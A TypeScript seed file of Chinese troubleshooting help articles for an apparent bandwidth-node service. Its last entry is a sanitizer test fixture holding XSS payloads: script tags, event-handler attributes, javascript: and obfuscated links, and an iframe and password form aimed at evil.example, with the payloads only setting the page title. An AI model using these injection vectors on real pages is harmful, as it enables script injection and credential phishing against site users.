import type { HelpSeed } from '../help.ts';

export const TROUBLE_HELP: readonly HelpSeed[] = [
  {
    id: '10601',
    title: '节点显示离线',
    updatedAt: '2026-11-06',
    content: `<ol><li>确认设备通电，网口指示灯闪烁。</li><li>在“配置网络”中查看网卡是否有 IP 地址。</li><li>用手机连接同一宽带，确认能够上网。</li><li>重启光猫，等待五分钟。</li></ol><p>仍然离线的，请提交工单并附上节点 UUID。</p>`,
  },
  {
    id: '10602',
    title: '晚高峰带宽偏低',
    updatedAt: '2026-10-16',
    content: `<p>请依次检查：家中是否有其他设备占用上行；运营商是否限速；网线是否为超五类以上；网卡是否协商为百兆。</p>`,
  },
  {
    id: '10603',
    title: '当日没有计费的原因',
    updatedAt: '2026-09-01',
    content: `<ul><li>18 点至 24 点累计离线超过 15 分钟，设备当日不计费；</li><li>晚高峰单条线路离线超过 30 分钟，该线路不计费；</li><li>当日在线不足 12 小时；</li><li>限速或作弊。</li></ul>`,
  },
  {
    // What an editor's copy and paste, or a break-in, could bring: none of it may run or load (hazard 8).
    id: '10666',
    title: '含有危险内容的文章 <script>document.title="harmed"</script>',
    updatedAt: '2026-05-05',
    content: `<p onclick="document.title='harmed'">这篇文章用于检查页面是否安全，正文应当正常显示。</p>
<script>document.title='harmed'</script><img src="x" onerror="document.title='harmed'"><svg onload="document.title='harmed'"><script>document.title='harmed'</script></svg>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"><button>登录</button></form>
<a href="javascript:document.title='harmed'">脚本链接</a> <a href="java&#9;script:alert(1)">含制表符的链接</a> <a href="data:text/html,x">数据链接</a> <a href="https://docs.partner.example/ok">正常链接</a>
<style>body{display:none}</style><p style="position:fixed;inset:0">盖住页面的段落</p><p>正文结束。</p>`,
  },
];
